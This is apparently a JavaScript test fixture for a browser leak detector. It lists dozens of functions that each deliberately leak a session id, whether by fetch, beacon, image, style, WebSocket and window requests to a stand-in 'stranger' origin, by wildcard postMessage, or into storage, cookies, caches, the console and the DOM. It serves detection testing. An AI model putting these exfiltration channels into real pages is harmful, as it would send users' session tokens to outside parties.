// Each way on which an id could leave a page, done on purpose: what watches must see all of them. Each
// function is called with a secret of its own, and with the origins of the page, the tenant and a
// stranger.

{
  const frameOf = async (origin) => (await addFrame({ src: `${origin}/puppet` })).contentWindow;
  const ask = (url, options) => fetch(url, options).catch(() => {});
  const stored = async (id) => {
    const opening = indexedDB.open('leaks', 1);
    opening.onupgradeneeded = () => opening.result.createObjectStore('leaks');
    const database = await new Promise((done) => (opening.onsuccess = () => done(opening.result)));
    const adding = database.transaction('leaks', 'readwrite');
    adding.objectStore('leaks').put({ session: { id } }, 'key');
    await new Promise((done) => (adding.oncomplete = done));
    database.close();
  };
  const submitted = async (id, page) => {
    const target = await addFrame({ name: 'target' });
    const form = document.createElement('form');
    Object.assign(form, { action: `${page}/form`, method: 'post', target: 'target' });
    const input = document.createElement('input');
    input.name = 'id';
    input.value = id;
    form.append(input);
    document.body.append(form);
    const loaded = new Promise((done) => (target.onload = done));
    form.submit();
    await loaded;
  };

  window.LEAKS = {
    // Requests.
    'the URL of a fetch': (id, { stranger }) => ask(`${stranger}/?id=${id}`),
    'the body of a fetch': (id, { stranger }) => ask(stranger, { method: 'POST', body: id }),
    'a request with a body': (id, { page }) =>
      ask(new Request(`${page}/request`, { method: 'POST', body: new Blob([id]) })),
    'a header of a fetch': (id, { page }) => ask(`${page}/header`, { headers: { 'x-id': id } }),
    'the body of a beacon': (id, { stranger }) => navigator.sendBeacon(`${stranger}/beacon`, id),
    'a file in a beacon': (id, { page }) =>
      navigator.sendBeacon(`${page}/beacon`, new Blob([`{"id":"${id}"}`])),
    'a form in a beacon': (id, { page }) => {
      const form = new FormData();
      form.set('id', id);
      navigator.sendBeacon(`${page}/beacon`, form);
    },
    'the body of an XMLHttpRequest': (id, { page }) => {
      const request = new XMLHttpRequest();
      request.open('POST', `${page}/xhr`);
      request.send(new TextEncoder().encode(id));
    },
    'an image': (id, { stranger }) => void (new Image().src = `${stranger}/pixel?${id}`),
    'a style': (id, { stranger }) => {
      const style = document.createElement('style');
      style.textContent = `main { background: url(${stranger}/style?${id}) }`;
      document.head.append(style);
    },
    'a referrer': async (id, { page }) => {
      history.replaceState(null, '', `/?${id}`);
      await ask(`${page}/referrer`);
      history.replaceState(null, '', '/');
    },
    'a form': (id, { page }) => submitted(id, page),
    'the URL of a WebSocket': (id, { stranger }) =>
      void new WebSocket(`${stranger.replace('http', 'ws')}/?${id}`),
    'an EventSource': (id, { stranger }) => new EventSource(`${stranger}/?${id}`).close(),
    'a window': (id, { stranger }) => void open(`${stranger}/?${id}`)?.close(),

    // Messages.
    'a message to any origin': async (id, { tenant }) =>
      (await frameOf(tenant)).postMessage({ type: 'svc:action:set-session', payload: { id } }, '*'),
    'a message to a stranger': async (id, { stranger }) =>
      (await frameOf(stranger)).postMessage({ id }, { targetOrigin: stranger }),
    'a message of another kind to the tenant': async (id, { tenant }) =>
      (await frameOf(tenant)).postMessage({ type: 'svc:action:navigate', payload: { id } }, tenant),
    'a message to the page itself': (id) => postMessage({ id }, '*'),
    'a MessagePort': (id) => new MessageChannel().port1.postMessage([new Map([['id', id]])]),
    'a BroadcastChannel': (id) => new BroadcastChannel('leaks').postMessage({ deep: [{ id }] }),
    'a message to a worker': (id) => {
      const script = URL.createObjectURL(new Blob([''], { type: 'text/javascript' }));
      new Worker(script).postMessage(new TextEncoder().encode(id));
    },
    'a worker’s name': (id) => {
      const script = URL.createObjectURL(new Blob([''], { type: 'text/javascript' }));
      new Worker(script, { name: id });
    },
    'an event': (id) => document.dispatchEvent(new CustomEvent('leaks', { detail: { id } })),

    // Storages: also one that is emptied at once.
    localStorage: (id) => void (localStorage.own = id),
    sessionStorage: (id) => sessionStorage.setItem('id', JSON.stringify({ id })),
    'a storage that is emptied': (id) => {
      localStorage.setItem(id, '');
      localStorage.removeItem(id);
    },
    'a cookie': (id) => void (document.cookie = `id=${id}`),
    IndexedDB: stored,
    'the URL of a cached answer': async (id) =>
      (await caches.open('leaks')).put(`/${id}`, new Response('')),
    'a cached answer': async (id) =>
      (await caches.open('leaks')).put('/cached', new Response(`{"sessionId":"${id}"}`)),
    'the state of the history': (id) => history.replaceState({ id }, ''),
    'the address': (id) => {
      location.hash = id;
    },
    'the name of the window': (id) => void (window.name = id),
    'the title': (id) => void (document.title = id),
    'a global': (id) => void (window.leaked = { deep: { id } }),
    'an object URL': (id) => void URL.createObjectURL(new Blob([id])),

    // What a developer, a viewer or an extension reads.
    'the console': (id) => console.debug('an object', { deep: { id } }),
    'an error in the console': (id) => console.error(new Error(`no session ${id}`)),
    'an uncaught error': (id) =>
      void setTimeout(() => {
        throw Object.assign(new Error('no'), { id });
      }),
    'an error’s name': (id) => void Promise.reject(Object.assign(new Error('no'), { name: id })),
    'a reported error': (id) => window.reportError?.(new Error(id)),
    'a mark in the timeline': (id) => performance.mark(id),
    'the clipboard': (id) => navigator.clipboard.writeText(id),
    'an attribute': (id) => document.body.setAttribute('data-id', id),
    'an attribute that is removed': async (id) => {
      document.body.setAttribute('data-id', id);
      await sleep(0);
      document.body.removeAttribute('data-id');
    },
    'a text': (id) => document.body.append(id),
    'a shadow': (id) => {
      const host = document.body.appendChild(document.createElement('p'));
      host.attachShadow({ mode: 'closed' }).innerHTML = `<b title="${id}"></b>`;
    },
    'a document in a frame': (id) => void addFrame({ srcdoc: `<p>${id}</p>` }),
  };
}
